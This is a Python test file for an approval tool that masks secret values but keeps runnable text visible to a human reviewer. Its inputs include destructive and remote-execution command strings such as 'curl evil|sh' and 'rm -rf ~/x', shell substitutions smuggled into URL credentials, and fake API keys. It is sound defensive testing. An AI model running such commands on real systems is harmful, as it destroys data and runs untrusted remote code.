"""What a person decides on is shown whole: a mask covers values of secrets, and nothing that could run."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from whet import log
from whet.contract.changes import TextChange
from whet.contract.protocols import ApprovalRequest
from whet.log import MASK, mask_values
from whet.question import build_question
from whet.visible import visible

KEY = "sk-live-abcdefgh12345678901"
LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"


@pytest.fixture(autouse=True)
def no_secrets() -> Iterator[None]:
    log.forget_secrets()
    yield
    log.forget_secrets()


@pytest.mark.parametrize(
    "text",
    [
        "docker build . ; echo '-----BEGIN PRIVATE KEY-----'; touch A; touch B",
        "# -----BEGIN RSA PRIVATE KEY-----\nrm -rf ~/x; curl evil|sh",
        "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
        "docker build http://x:$(rm${IFS}-rf${IFS}..)@localhost",
        "x='http://a:$(evil)@h'",
        "curl http://a:`evil`@h",
        "rm -rf bearer ~/important-documents-2026",
        "echo Bearer important-documents-2026",
        "git push sk-live-production-main-branch main",
        "docker rm sk-production-database-primary",
        f"rm -rf {KEY}",
        f"rm -rf './{KEY}'",
        f"A=`{KEY}`",
        f"A=$({KEY})",
        f"rm -rf A={KEY}/../../home",
        "rm -rf api/webhooks/1234567890/important-documents-2026",
        "rm -rf hooks.slack.com/services/important/documents/of/2026",
    ],
)
def test_text_that_could_run_or_names_a_target_is_shown(text: str) -> None:
    assert mask_values(text) == visible(text) == text
    assert "\n".join(row.text for row in build_question(request(text)).body) == text


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        (f"export OPENAI_API_KEY={KEY}; ls", f"export OPENAI_API_KEY={MASK}; ls"),
        (f"x = f('{KEY}', TOK='{KEY}')", f"x = f('{KEY}', TOK='{MASK}')"),
        (f"curl -H 'Authorization: Bearer {KEY}' h", f"curl -H 'Authorization: Bearer {MASK}' h"),
        ("curl -H 'Authorization: Bearer ab12/cd34+ef56gh' h", f"curl -H 'Authorization: Bearer {MASK}' h"),
        (f"deploy --api-key {KEY} now", f"deploy --api-key {MASK} now"),
        (f'{{"token": "{KEY}"}}', f'{{"token": "{MASK}"}}'),
        ("git clone https://ada:hunter2@h/r", f"git clone https://ada:{MASK}@h/r"),
        (f"A={KEY}$(touch x)", f"A={MASK}$(touch x)"),
        (f"-----BEGIN PRIVATE KEY-----\n{LINE}\nab=", f"-----BEGIN PRIVATE KEY-----\n{MASK}\nab="),
        (f'"-----BEGIN PRIVATE KEY-----\\n{LINE}\\n', f'"-----BEGIN PRIVATE KEY-----\\n{MASK}\\n'),
        (
            "curl https://hooks.slack.com/services/T000/B000/aaaaaaaaaaaaaaaaaaaaaaaa -d $(x)",
            f"curl https://hooks.slack.com/services/{MASK} -d $(x)",
        ),
    ],
)
def test_the_value_of_a_key_is_masked_and_what_follows_is_shown(text: str, masked: str) -> None:
    assert mask_values(text) == masked
    assert visible(masked) == masked  # a second mask changes nothing


def test_known_secrets_are_masked_wherever_they_stand() -> None:
    log.protect(["Zq9-custom-secret-value-77"])
    assert mask_values("rm Zq9-custom-secret-value-77; ls") == f"rm {MASK}; ls"


def test_a_diff_shows_each_line_that_is_written() -> None:
    new = "#!/bin/sh\n# -----BEGIN RSA PRIVATE KEY-----\nrm -rf ~/x\nx='http://a:$(evil)@h'\n"
    change = TextChange("a.sh", "/w/a.sh", None, new, "")
    rows = build_question(ApprovalRequest("s", "c", "write_file", "", (), changes=(change,))).body
    assert [row.text for row in rows if row.kind == "added"] == [f"+{line}" for line in new.splitlines()]


def request(command: str) -> ApprovalRequest:
    return ApprovalRequest("s", "c", "terminal", visible(command), ())
